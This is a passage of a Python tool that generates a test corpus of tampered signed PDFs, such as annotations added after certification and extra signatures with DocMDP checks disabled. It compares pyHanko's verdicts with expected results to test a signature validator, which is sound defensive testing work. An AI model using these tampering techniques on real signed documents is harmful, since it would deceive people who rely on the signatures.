             attack_add_annotation(certified[2]), ["Certification"]),
        Case("annotation_p3.pdf", "annotation_p3", "invalid", "annotation",
             "FreeText annotation added (as annotation_added_approval) on the P=3 certified file: "
             "ISO 32000 lets P=3 allow annotations, but pyHanko (and catool with it) accepts no "
             "annotation added after a signature, since an annotation can cover signed content",
             attack_add_annotation(certified[3]), ["Certification"]),
        Case("second_signature_p1.pdf", "second_signature_p1", PYHANKO, "",
             "a second (approval) signature by pyHanko in new field Signature2 on the P=1 file "
             "(pyHanko refuses to do this by itself: its P=1 check was switched off); expect is "
             "for the certification signature",
             pyhanko_sign(certified[1], Path(args.p12), password, "Signature2",
                          ignore_docmdp=True), ["Certification"]),
        Case("second_signature_p2.pdf", "second_signature_p2", "valid", "",
             "a second (approval) signature by pyHanko in new field Signature2 on the P=2 file; "
             "expect is for both signatures",
             pyhanko_sign(certified[2], Path(args.p12), password, "Signature2"),
             ["Certification", "Signature2"]),
        Case("second_signature_approval.pdf", "second_signature_approval", "valid", "",
             "a second approval signature by pyHanko (field Signature2) on A.pdf; expect is for "
             "both signatures",
             pyhanko_sign(a, Path(args.p12), password, "Signature2"), [sig_a, "Signature2"]),
    ]
    return cases


def write_ca_from_p12(p12: Path, password_file: Path, out: Path) -> Path:
    """The trust root when --ca is not given: the self-signed certificate the PKCS#12 carries
    (catool puts the issuing CA in it), written to OUT/ca.pem."""
    from cryptography.hazmat.primitives import serialization

    _, cert, extra, _ = load_p12(p12, password_file)
    roots = [c for c in extra + [cert] if c.subject == c.issuer]
    if not roots:
        raise SystemExit(f"{p12} holds no self-signed CA certificate: pass --ca CA.pem")
    path = out / "ca.pem"
    path.write_bytes(roots[0].public_bytes(serialization.Encoding.PEM))
    return path


def pyhanko_says(lines: list[dict], fields: list[str]) -> str:
    by_field = {l["field"]: l for l in lines}
    got = [by_field.get(f, {}).get("bottom_line", False) for f in fields]
    if all(got):
        return "valid"
    if not any(got):
        return "invalid"
    return "mixed"


def cmd_attacks(args) -> int:
    import logging

    # pyHanko logs every refused update as a WARNING with a traceback: the verdicts say it.
    logging.disable(logging.CRITICAL)
    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    if not args.ca:
        args.ca = str(write_ca_from_p12(Path(args.p12), Path(args.p12_password_file), out))
    cases = build_cases(args)
    disagreements = []
    sys.path.insert(0, str(HERE))
    import pyhanko_verdict
    for case in cases:
        path = out / case.file
        path.write_bytes(case.data)
        case.pyhanko = pyhanko_verdict.verdicts(str(path), args.ca)
        said = pyhanko_says(case.pyhanko, case.judged)
        case.pyhanko_verdict = said
        if case.expect == PYHANKO:
            case.expect = said
            case.note += f"; expect is pyHanko's verdict ({said}): catool follows pyHanko here"
        elif said != case.expect:
            msg = f"{case.file}: the brief expects {case.expect}, pyHanko says {said}"
            disagreements.append(msg)
            case.note += f"; DISAGREEMENT: {msg}"
    manifest = [
        {
            "file": c.file,
            "attack": c.attack,
            "expect": c.expect,
            "names": c.names,
            "note": c.note,
            "signatures": c.judged,
            "pyhanko_verdict": c.pyhanko_verdict,
            "pyhanko": c.pyhanko,
        }
        for c in cases
    ]
    (out / "manifest.json").write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n")
    for c in cases:
        bl = ",".join(f"{l['field']}={'valid' if l['bottom_line'] else 'INVALID'}" for l in c.pyhanko)
        print(f"{c.file:40} expect {c.expect:8} pyHanko {bl}")
    for d in disagreements:
        print("DISAGREEMENT:", d, file=sys.stderr)
    print(f"{len(cases)} files and manifest.json in {out}")
    return 0


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    b = sub.add_parser("base", help="write the unsigned base PDF")
    b.add_argument("out")
    t = sub.add_parser("attacks", help="write the attack corpus + manifest.json")
    t.add_argument("--approval", required=True, help="the base signed once by catool")
    t.add_argument("--certified", required=True, help="the base certified by catool (P=2)")
    t.add_argument("--p12", required=True, help="PKCS#12 with the signer's key + certificate")
    t.add_argument("--p12-password-file", required=True)
    t.add_argument("--out", required=True)
    t.add_argument("--ca", help="CA certificate (PEM) pyHanko trusts for the verdicts in the "
                   "manifest [default: the self-signed certificate in the PKCS#12, written to "
                   "DIR/ca.pem]")
    args = ap.parse_args()
    if args.cmd == "base":
        Path(args.out).write_bytes(base_pdf())
        return 0
    return cmd_attacks(args)


if __name__ == "__main__":
    sys.exit(main())
